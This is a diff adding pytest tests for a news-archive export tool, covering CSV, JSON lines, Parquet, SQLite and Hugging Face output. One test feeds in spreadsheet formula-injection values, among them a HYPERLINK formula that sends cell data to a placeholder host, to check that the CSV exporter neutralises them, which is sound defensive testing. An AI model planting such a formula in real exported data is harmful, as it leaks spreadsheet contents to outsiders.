@@ -1,0 +1,189 @@
+"""`newsarchive export`: every format holds the same records, spreadsheets get no formula, and nothing half is left."""
+
+from __future__ import annotations
+
+import builtins
+import csv
+import gzip
+import io
+import json
+import sqlite3
+import subprocess
+import sys
+from collections.abc import Iterator
+from contextlib import closing
+from datetime import UTC
+from pathlib import Path
+from typing import Any
+
+import pyarrow.parquet as parquet
+import pytest
+from click.testing import CliRunner, Result
+from hypothesis import given
+from hypothesis import strategies as st
+from search_pieces import store
+
+from newsarchive import load
+from newsarchive.article import RECORD_FIELDS, Record, to_json
+from newsarchive.cli import main
+from newsarchive.dataset.exporting import UNSAFE, csv_cell, export
+from newsarchive.dataset.tables import arrow_schema
+
+SAMPLE = Path(__file__).resolve().parent.parent / "data" / "sample"
+
+
+def run(*words: str) -> Result:
+    return CliRunner().invoke(main, ["export", str(SAMPLE), *words])
+
+
+def test_json_lines_are_the_records_as_stored(tmp_path: Path) -> None:
+    out = tmp_path / "out.jsonl"
+    assert run("-o", str(out)).stderr == f"{out}: 24 articles\n"
+    assert out.read_bytes() == b"".join(to_json(record) + b"\n" for record in load(SAMPLE))
+    assert list(load(out)) == list(load(SAMPLE))
+
+
+def test_packed_json_lines_are_the_same_each_time(tmp_path: Path) -> None:
+    one, two = tmp_path / "1.jsonl.gz", tmp_path / "2.jsonl.gz"
+    for out in (one, two):
+        assert run("-o", str(out), "--revisions").stderr == f"{out}: 25 texts\n"
+    assert one.read_bytes() == two.read_bytes()
+    assert len(gzip.decompress(one.read_bytes()).splitlines()) == 25
+
+
+def test_columns_come_in_the_order_asked_for() -> None:
+    lines = run("--columns", "title, id,authors").stdout.splitlines()
+    assert list(json.loads(lines[0])) == ["title", "id", "authors"]
+    assert run("--columns", "title,id", "--format", "csv").stdout.splitlines()[0] == "title,id"
+
+
+def test_csv_holds_every_value(tmp_path: Path) -> None:
+    rows = list(csv.DictReader(io.StringIO(run("--format", "csv").stdout_bytes.decode(), newline="")))
+    records = list(load(SAMPLE))
+    assert [row["body"] for row in rows] == [record.body for record in records]
+    assert [json.loads(row["authors"]) for row in rows] == [record.authors for record in records]
+    first = next(record for record in records if record.published_at)
+    assert rows[records.index(first)]["published_at"] == first.published_at.isoformat()  # type: ignore[union-attr]
+    assert {row["paywalled"] for row in rows} <= {"", "true", "false"}
+    assert list(rows[0]) == list(RECORD_FIELDS)
+
+
+def test_a_spreadsheet_gets_no_formula(tmp_path: Path) -> None:
+    evil = '=HYPERLINK("http://x.example?"&A1,"xem")'
+    folder = store(tmp_path / "archive", [{"title": evil, "section": "@SUM(1)", "byline": "'ngoặc", "body": "-1+2"}])
+    asked = ["export", str(folder), "--format", "csv", "--columns", "title,section,byline,body,lead"]
+    (row,) = list(csv.reader(CliRunner().invoke(main, asked).stdout.splitlines()))[1:]
+    assert row == [f"'{evil}", "'@SUM(1)", "''ngoặc", "'-1+2", ""]
+    (row,) = list(csv.reader(CliRunner().invoke(main, [*asked, "--csv-raw"]).stdout.splitlines()))[1:]
+    assert row == [evil, "@SUM(1)", "'ngoặc", "-1+2", ""]
+
+
+@given(st.text())
+def test_a_safe_cell_gives_the_data_back(text: str) -> None:
+    cell = csv_cell(text)
+    assert not cell.startswith(tuple(sign for sign in UNSAFE if sign != "'"))
+    assert (cell[1:] if cell.startswith("'") else cell) == text
+
+
+def test_parquet_has_the_schema_and_the_values(tmp_path: Path) -> None:
+    out = tmp_path / "out.parquet"
+    run("-o", str(out), "--site", "tinmau")
+    table = parquet.read_table(out)
+    records = list(load(SAMPLE, sites="tinmau"))
+    assert table.schema == arrow_schema()
+    assert table["authors"].to_pylist() == [record.authors for record in records]
+    times = [record.published_at and record.published_at.astimezone(UTC) for record in records]
+    assert table["published_at"].to_pylist() == times
+
+
+def test_a_part_without_records_is_a_table_without_rows(tmp_path: Path) -> None:
+    out = tmp_path / "out.parquet"
+    assert run("-o", str(out), "--since", "2030", "--columns", "id,published_at").stderr == f"{out}: 0 articles\n"
+    assert parquet.read_table(out).num_rows == 0
+    assert parquet.read_schema(out) == arrow_schema(["id", "published_at"])
+
+
+def test_sqlite_answers_questions(tmp_path: Path) -> None:
+    out = tmp_path / "out.sqlite"
+    run("-o", str(out))
+    question = (
+        "SELECT name.value, count(*) FROM articles, json_each(authors) AS name GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 2"
+    )
+    with closing(sqlite3.connect(out)) as base:
+        assert base.execute(question).fetchall() == [("Trúc Mai", 5), ("Hạ Vy", 4)]
+        assert base.execute("SELECT typeof(revision), typeof(section) FROM articles LIMIT 1").fetchone() == (
+            "integer",
+            "text",
+        )
+
+
+def test_hugging_face_datasets_loads_the_folder(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    assert run("-o", str(out), "--format", "hf").exit_code == 0
+    datasets = pytest.importorskip("datasets")
+    data = datasets.load_from_disk(str(out))
+    assert data["id"][:] == [record.id for record in load(SAMPLE)]
+    assert data.features["authors"].feature.dtype == "string"
+    assert not list(tmp_path.glob(".*"))
+
+
+def test_what_is_there_is_left_alone_unless_asked(tmp_path: Path) -> None:
+    out = tmp_path / "out.csv"
+    out.write_text("mine")
+    done = run("-o", str(out))
+    assert (done.exit_code, done.stderr.count("\n"), out.read_text()) == (1, 1, "mine")
+    assert f"{out}: is there already" in done.stderr
+    assert run("-o", str(out), "--force").exit_code == 0
+    assert out.read_text().startswith("schema,id,")
+
+
+def test_a_file_that_breaks_off_never_takes_its_place(tmp_path: Path) -> None:
+    def breaking() -> Iterator[Record]:
+        yield from load(SAMPLE)
+        raise OSError("no more")
+
+    for format in ("jsonl", "csv", "parquet", "sqlite"):
+        with pytest.raises(OSError, match="no more"):
+            export(breaking(), tmp_path / "out", format)  # type: ignore[arg-type]
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    ("words", "told"),
+    [
+        (["--columns", "colour"], "'colour': no field of a record"),
+        (["-o", "out.xlsx"], "out.xlsx: no format has this ending"),
+        (["-o", "out.parquet.gz"], "no format has this ending"),
+        (["--format", "parquet"], "--format parquet makes a file; name it with -o"),
+        (["-o", "/khong/co/out.csv"], "/khong/co: no such folder; make it first"),
+    ],
+)
+def test_what_cannot_be_written_is_named(words: list[str], told: str) -> None:
+    done = run(*words)
+    assert done.exit_code in (1, 2)
+    assert told in done.stderr
+
+
+def test_a_missing_library_is_named_with_the_remedy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    real = builtins.__import__
+
+    def without(name: str, *rest: Any, **named: Any) -> Any:
+        if name == "datasets":
+            raise ImportError(name)
+        return real(name, *rest, **named)
+
+    monkeypatch.setattr(builtins, "__import__", without)
+    done = run("-o", str(tmp_path / "out"), "--format", "hf")
+    assert (done.exit_code, 'pip install "newsarchive[huggingface]"' in done.stderr) == (1, True)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_a_reader_that_has_seen_enough_ends_it_quietly(tmp_path: Path) -> None:
+    store(tmp_path, [{"title": f"Tin {number}", "body": "Nước lên. " * 30} for number in range(300)])
+    for form in ("jsonl", "csv"):
+        command = (
+            f"{sys.executable} -m newsarchive export {tmp_path} --format {form} | head -1; exit ${{PIPESTATUS[0]}}"
+        )
+        done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, check=False)
+        assert (done.returncode, done.stderr) == (0, "")
+        assert done.stdout.count("\n") == 1
